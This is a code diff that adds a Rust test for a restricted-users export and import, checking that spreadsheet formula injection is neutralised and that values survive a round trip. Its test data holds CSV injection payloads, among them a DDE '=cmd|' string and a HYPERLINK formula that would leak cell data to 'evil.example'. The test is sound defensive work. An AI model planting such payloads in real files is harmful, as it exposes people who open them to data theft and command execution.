@@ -1,7 +1,9 @@
 //! `import` and `export` on what PowerShell really writes.
 
-use crate::harness::{Database, eventually};
+use crate::harness::{Database, Portal, eventually};
 use crate::program::{Serve, command, open, result_of, run};
+use reqwest::Method;
+use restricted_users::operator::RoleGroup;
 use serde_json::json;
 use std::path::Path;
 
@@ -47,6 +49,41 @@ async fn what_is_exported_is_imported_elsewhere_as_it_was() {
         let file = written(&to, &exported);
         assert_eq!(result_of(&to, &["import", &file]), "2 imported, 0 skipped, 0 bad\n");
         assert_eq!(result_of(&to, &["export", "--format", format]), exported);
+    }
+}
+
+#[tokio::test]
+async fn no_spreadsheet_runs_a_cell_of_an_export_and_an_import_takes_each_as_it_was() {
+    const CELLS: [(&str, &str); 5] = [
+        ("=cmd|/c@example.org", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+        ("-bob@example.org", "+1"),
+        ("carol@example.org", "@SUM(1)"),
+        ("'dave@example.org", "'=already an apostrophe"),
+        ("eve@example.org", "\t=1"),
+    ];
+    let portal = Portal::start().await;
+    for (address, reason) in CELLS {
+        let body = json!({ "address": address, "reason": reason });
+        assert_eq!(portal.post("/api/v1/restricted-users", body).await.status, 201, "{address}");
+    }
+    let session = portal.session(RoleGroup::GlobalReader).await;
+    let export = portal.request(Method::GET, "/ui/restrictedusers/export");
+    let exported = portal.send(export.header("cookie", session)).await.text;
+    assert_eq!(result_of(&portal.database, &["export"]), exported);
+    for line in exported.lines().skip(1) {
+        let reason = line.split("\",\"").nth(1).unwrap();
+        assert!(!line[1..].starts_with(['=', '-']) && reason.starts_with('\''), "{line}");
+    }
+
+    let elsewhere = Database::create().await;
+    let file = written(&elsewhere, &exported);
+    assert_eq!(result_of(&elsewhere, &["import", &file]), "5 imported, 0 skipped, 0 bad\n");
+    let json = result_of(&elsewhere, &["export", "--format", "json"]);
+    let senders: Vec<serde_json::Value> = serde_json::from_str(&json).unwrap();
+    for (address, reason) in CELLS {
+        let is_it = |sender: &&serde_json::Value| sender["SenderAddress"] == address;
+        let sender = senders.iter().find(is_it).expect(address);
+        assert_eq!(sender["Reason"], reason, "{address}");
     }
 }
 
